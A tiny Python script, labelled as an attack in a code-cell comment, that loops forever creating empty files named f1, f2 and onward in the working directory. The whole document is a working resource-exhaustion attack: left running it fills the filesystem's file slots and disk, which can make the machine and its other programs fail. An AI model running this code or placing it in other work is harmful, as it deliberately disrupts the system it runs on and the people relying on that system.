# Makes files without end.
# %% attack
import os
number = 0
while True:
    number += 1
    open(f"f{number}", "w").close()
